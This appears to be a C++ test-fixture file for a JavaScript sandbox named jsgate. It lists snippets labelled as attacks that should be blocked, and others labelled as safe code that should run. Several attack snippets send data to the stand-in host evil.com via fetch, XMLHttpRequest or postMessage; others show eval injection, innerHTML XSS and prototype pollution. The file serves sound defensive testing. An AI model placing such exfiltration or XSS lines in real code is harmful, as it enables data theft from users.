#include "src/server/security_examples.h"

namespace jsgate {

const char* ExpectationName(Expectation expectation) {
    switch (expectation) {
        case Expectation::kBlocked: return "blocked";
        case Expectation::kTimesOut: return "times out";
        case Expectation::kRuns: return "runs";
    }
    return "unknown";
}

const std::vector<SecurityExample>& SecurityExamples() {
    static const std::vector<SecurityExample> examples = {
        // Malicious
        {"Eval Attack", "Direct eval() - should be blocked",
         R"(eval('console.log("Malicious code executed!")');)",
         Expectation::kBlocked},
        {"Function Constructor", "Function constructor - should be blocked",
         "const fn = new Function('console.log(\"Code injection\")');\nfn();",
         Expectation::kBlocked},
        {"Window Access", "Window manipulation - should be blocked",
         "window.location = 'http://evil.com/steal';\nconsole.log('Redirected');",
         Expectation::kBlocked},
        {"Document Access", "DOM manipulation - should be blocked",
         R"(document.body.innerHTML = '<script>alert("XSS")</script>';)",
         Expectation::kBlocked},
        {"Fetch Attack", "Network request - should be blocked",
         "fetch('http://evil.com/steal?data=' + 'sensitive info');",
         Expectation::kBlocked},
        {"LocalStorage Theft", "Storage access - should be blocked",
         "localStorage.setItem('stolen', 'sensitive data');\nconsole.log(localStorage.getItem('stolen'));",
         Expectation::kBlocked},
        {"Prototype Pollution", "Prototype manipulation - should be blocked",
         "const obj = {};\nobj.__proto__.isAdmin = true;\nconsole.log('Prototype polluted');",
         Expectation::kBlocked},
        {"InnerHTML XSS", "XSS via innerHTML - should be blocked",
         "const div = { innerHTML: '' };\ndiv.innerHTML = '<img src=x onerror=alert(\"XSS\")>';",
         Expectation::kBlocked},
        {"XMLHttpRequest", "XHR request - should be blocked",
         "const xhr = new XMLHttpRequest();\nxhr.open('POST', 'http://evil.com');\nxhr.send('data');",
         Expectation::kBlocked},
        {"Infinite Loop", "Should time out",
         "while(true) {\n  console.log('Infinite loop');\n}",
         Expectation::kTimesOut},
        {"Base64 Obfuscation", "Obfuscation attempt - should be blocked",
         "const encoded = btoa('malicious');\nconst decoded = atob(encoded);\nconsole.log(decoded);",
         Expectation::kBlocked},
        {"PostMessage Exfiltration", "Data exfiltration - should be blocked",
         "postMessage('stolen data', 'http://evil.com');",
         Expectation::kBlocked},

        // Safe
        {"Simple Math", "Safe math operations - should work",
         "console.log(2 + 2);\nconsole.log(Math.sqrt(16));",
         Expectation::kRuns},
        {"String Operations", "Safe string operations - should work",
         "const name = 'World';\nconsole.log('Hello, ' + name + '!');",
         Expectation::kRuns},
        {"Array Operations", "Safe array operations - should work",
         "const arr = [1, 2, 3];\nconsole.log(arr.map(x => x * 2));",
         Expectation::kRuns},
        {"Object Operations", "Safe object operations - should work",
         "const obj = { a: 1, b: 2 };\nconsole.log(Object.keys(obj));",
         Expectation::kRuns},
        {"Date Operations", "Safe date operations - should work",
         "const now = new Date();\nconsole.log(now.toISOString());",
         Expectation::kRuns},
        {"JSON Operations", "Safe JSON operations - should work",
         "const data = { name: 'test', value: 123 };\nconsole.log(JSON.stringify(data));",
         Expectation::kRuns},
    };
    return examples;
}

} // namespace jsgate
